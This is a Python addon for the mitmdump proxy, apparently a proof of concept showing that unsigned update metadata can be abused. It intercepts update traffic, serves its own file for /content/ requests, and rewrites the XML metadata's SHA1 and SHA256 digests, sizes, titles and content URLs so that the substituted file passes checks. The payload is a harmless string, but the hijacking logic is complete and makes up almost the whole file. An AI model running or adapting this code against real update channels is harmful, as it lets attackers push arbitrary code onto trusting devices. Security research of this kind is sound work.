"""What an attacker on the way does: updates are given another payload, with digests that fit, and that payload is served.

An addon of mitmdump. Metadata has no signature, so whoever can alter it chooses what is installed. Files keep their names, so that the program
that an update starts is still one of its own files. The payload is harmless text.
"""

import base64
import hashlib
import os
import re

from mitmproxy import http

PAYLOAD = b"what the attacker wants to run\n"
TITLE = "Owned"
SHA1 = base64.b64encode(hashlib.sha1(PAYLOAD).digest()).decode()
SHA256 = base64.b64encode(hashlib.sha256(PAYLOAD).digest()).decode()
# Where the requests of a proxy without TLS are sent on to, as HOST:PORT; by TLS, as a rogue server would fetch them.
UPSTREAM = os.environ.get("ATTACK_UPSTREAM")
# The origin of a rogue server, which content is to come from.
ROGUE = os.environ.get("ATTACK_ROGUE")
ORIGIN_FIELD = "asked origin"


def request(flow: http.HTTPFlow) -> None:
    if ROGUE:
        flow.metadata[ORIGIN_FIELD] = ROGUE
    # What is compressed cannot be rewritten so easily: without the offer it comes as it is.
    flow.request.headers.pop("accept-encoding", None)
    if flow.request.path.lower().startswith("/content/"):
        flow.response = http.Response.make(200, PAYLOAD, {"Content-Type": "application/octet-stream"})
    elif UPSTREAM and flow.request.scheme == "http":
        host, port = UPSTREAM.rsplit(":", 1)
        flow.metadata[ORIGIN_FIELD] = f"http://{flow.request.host}:{flow.request.port}"
        flow.request.scheme, flow.request.host, flow.request.port = "https", host, int(port)
        flow.request.headers["host"] = UPSTREAM


def response(flow: http.HTTPFlow) -> None:
    if "xml" not in flow.response.headers.get("content-type", ""):
        return
    text = flow.response.get_text()
    # Fragments stand escaped in the answer; the list of file locations beside them does not.
    text = re.sub(r'(Digest=(?:"|&quot;))[A-Za-z0-9+/]{27}=', lambda match: match.group(1) + SHA1, text)
    text = re.sub(r"((?:&lt;|<)Title(?:&gt;|>))[^&<]*", lambda match: match.group(1) + TITLE, text)
    text = re.sub(r"(<FileDigest>)[^<]*", lambda match: match.group(1) + SHA1, text)
    text = re.sub(r'(FileName=(?:"|&quot;)[^&]*?(?:"|&quot;)[^&]*?Size=(?:"|&quot;))\d+', lambda match: match.group(1) + str(len(PAYLOAD)), text)
    text = re.sub(r"(Algorithm=(?:\"|&quot;)SHA256(?:\"|&quot;)\s*(?:&gt;|>))[A-Za-z0-9+/]{43}=", lambda match: match.group(1) + SHA256, text)
    # Addresses of content lead to whoever answers here: the origin that the device asked.
    if ORIGIN_FIELD in flow.metadata:
        text = re.sub(r"https?://[^/<]+(?=/Content/)", flow.metadata[ORIGIN_FIELD], text, flags=re.I)
    flow.response.set_text(text)
